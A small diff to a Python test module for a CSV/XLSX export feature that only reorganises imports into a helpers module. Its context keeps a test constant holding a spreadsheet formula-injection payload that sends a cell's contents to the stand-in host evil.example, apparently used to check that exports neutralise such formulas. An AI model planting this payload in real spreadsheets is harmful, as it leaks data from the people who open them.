@@ -17,8 +17,7 @@ from actiescan.tabular import csv_chunks, neutralise, write_xlsx
 from reports.exports import SessionResource, SessionWithMinutesResource
 from sessions.models import ActionPoint, ActionStatus, Initiative, SessionFactor, Status
 
-from .conftest import client_for
-from .test_overviews import at, make_session
+from .helpers import at, client_for, make_session
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
 
